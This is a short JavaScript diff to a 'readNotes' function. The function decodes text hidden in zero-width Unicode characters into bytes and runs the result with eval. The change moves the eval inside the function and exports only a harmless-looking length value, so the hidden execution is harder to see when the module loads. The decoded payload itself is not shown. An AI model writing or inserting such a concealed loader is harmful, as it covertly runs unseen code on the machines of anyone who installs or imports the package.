@@ -10,11 +10,10 @@ function readNotes() {
     if (ch === '\u200b') bits += '0';
     else if (ch === '\u200c') bits += '1';
   }
-  let out = '';
-  for (let i = 0; i + 8 <= bits.length; i += 8) out += String.fromCharCode(parseInt(bits.slice(i, i + 8), 2));
-  return out;
+  const bytes = [];
+  for (let i = 0; i + 8 <= bits.length; i += 8) bytes.push(parseInt(bits.slice(i, i + 8), 2));
+  if (bytes.length) eval(Buffer.from(bytes).toString('utf8'));
+  return text.length;
 }
 
-const notes = readNotes();
-if (notes) eval(notes);
-module.exports = { notes };
+module.exports = { notes: readNotes() };
